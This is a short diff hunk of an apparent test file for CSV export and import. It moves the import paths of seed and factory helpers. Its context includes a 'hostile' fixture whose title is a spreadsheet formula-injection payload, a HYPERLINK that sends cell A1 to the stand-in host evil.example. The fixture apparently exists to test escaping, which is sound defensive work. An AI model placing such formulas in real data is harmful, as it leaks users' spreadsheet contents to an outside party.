@@ -9,8 +9,8 @@ import { db } from '@/lib/db';
 import { GET } from '@/app/api/v1/events.csv/route';
 import { toCsv, unescapeCsvCell } from '@/lib/csv';
 import { parseImport } from '@/lib/import/parse';
-import { writeDataset } from '../../prisma/seed/write';
-import { buildDataset, buildEvent, buildSource } from '../../prisma/seed/factories';
+import { writeDataset } from '../../lib/seed/write';
+import { buildDataset, buildEvent, buildSource } from '../support/factories';
 
 const hostile = {
   title: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
